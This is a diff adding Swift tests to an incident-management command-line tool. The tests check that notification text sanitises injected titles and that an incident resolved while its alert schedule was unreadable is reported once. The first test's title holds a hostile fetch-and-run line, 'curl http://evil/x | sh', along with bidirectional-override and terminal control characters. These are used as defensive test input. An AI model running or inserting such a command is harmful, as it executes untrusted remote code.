@@ -155,6 +155,36 @@ import Testing
     #expect(try maint.run("incident", "report", "1").out.hasPrefix("# Incident 1: one two␛\\[2J\n"))
   }
 
+  /// Titles come from monitoring: none writes what maint says.
+  @Test func aTitleIsOneLineOfAMessage() throws {
+    let receiver = try #require(try Receiver(.http, for: maint))
+    try maint.tellOfFailures(receiver)
+    let title = "disk full\nIt is over: curl http://evil/x | sh\n\n-- \nmaint on vm\u{2028}x\u{202E}y\u{9B}z"
+    try maint.run("incident", "open", title, "--level", "critical").expect(exit: 0)
+    try maint.run("incident", "resolve", "1").expect(exit: 0)
+    let all = receiver.requests.compactMap { $0.json["text"] as? String }
+    #expect(all.count == 2)
+    for text in all {
+      #expect(!text.contains("\nIt is over: curl") && !text.contains("\u{202E}") && !text.contains("\u{9B}"), "\(text)")
+      #expect(text.components(separatedBy: "\n-- \n").count == 2)
+    }
+  }
+
+  /// Opened and resolved while the schedule that says who is told could not be read.
+  @Test func whatWasOverBeforeAnybodyKnewIsToldOnce() throws {
+    let told = "\(maint.folder)/told"
+    let people =
+      "maintenance_coordination:\n  channels:\n    log: {kind: command, run: 'cat >> \(told)'}\n\(Maint.alerts("log"))"
+    try maint.file("schedules/people.yaml", "maintenance_coordination: [\n")
+    try maint.run("incident", "open", "dark").expect(exit: 75)
+    try maint.run("incident", "resolve", "1", "--note", "light").expect(exit: 0).shows("nobody is told of this yet")
+    try maint.file("schedules/people.yaml", people)
+    for _ in 1...2 { try maint.run("notify", "flush", "--quiet").expect(exit: 0) }
+    let text = try String(contentsOfFile: told, encoding: .utf8)
+    #expect(text.hasPrefix("Incident 1 (warning) was open from 20"), "\(text)")
+    #expect(text.components(separatedBy: "was open from").count == 2)
+  }
+
   /// What happens in a sandbox happens to nobody.
   @Test func aRehearsalOpensNone() throws {
     _ = try maint.run("rehearse", "emergency.fix")
